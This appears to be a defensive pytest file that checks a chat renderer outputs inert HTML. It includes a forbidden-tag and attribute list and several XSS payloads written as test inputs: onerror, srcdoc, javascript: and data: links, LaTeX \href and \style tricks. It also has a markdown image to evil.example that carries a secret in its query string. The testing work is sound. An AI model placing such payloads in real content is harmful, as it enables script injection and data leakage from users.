"""Nothing in a reply runs, loads or leads anywhere but to an ordinary address (case 16)."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings

from chat.rendering import render
from chat.rendering.blocks import normalize
from chat.rendering.sanitizing import sanitize
from chat.tests.rendering.strategies import NASTY

FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "img",
    "svg",
    "object",
    "embed",
    "form",
    "link",
    "meta",
    "base",
    "video",
    "audio",
}
ADDRESSES = ("http://", "https://", "mailto:")


class _Inspector(HTMLParser):
    def handle_starttag(self, tag, attrs):
        assert tag not in FORBIDDEN, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in {"style", "src", "srcdoc", "srcset", "id", "name", "formaction", "xlink:href"}, name
            if name == "href":
                assert value.lower().startswith(ADDRESSES), value
        if tag == "a":
            attributes = dict(attrs)
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


def assert_inert(html):
    """Walk through the HTML as a browser would."""
    inspector = _Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@settings(max_examples=200, deadline=None)
@given(NASTY)
def test_whatever_it_says(text):
    assert_inert(render(text))


@settings(max_examples=100, deadline=None)
@given(NASTY)
def test_even_when_the_renderer_lets_markup_through(text):
    assert_inert(sanitize(normalize(text)))


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](//evil.example)",
        "[x]\n\n[x]: javascript:alert(1)",
        r"$\text{<svg/onload=alert(1)>}$",
        r"$\href{javascript:alert(1)}{x}$",
        r"\[ \style{background:url(https://evil.example)}{x} \]",
    ],
)
def test_known_tricks(text):
    assert_inert(render(text))
    assert " href=" not in render(text)


def test_a_picture_is_a_link_that_shows_its_address():
    html = render("![cat](https://evil.example/p.png?q=secret)")
    assert "<img" not in html
    assert ">cat (https://evil.example/p.png?q=secret)</a>" in html


def test_a_picture_within_a_link_is_its_description():
    html = render("[![cat](https://a.example/p.png)](https://b.example)")
    assert html.count("<a ") == 1
    assert "p.png" not in html
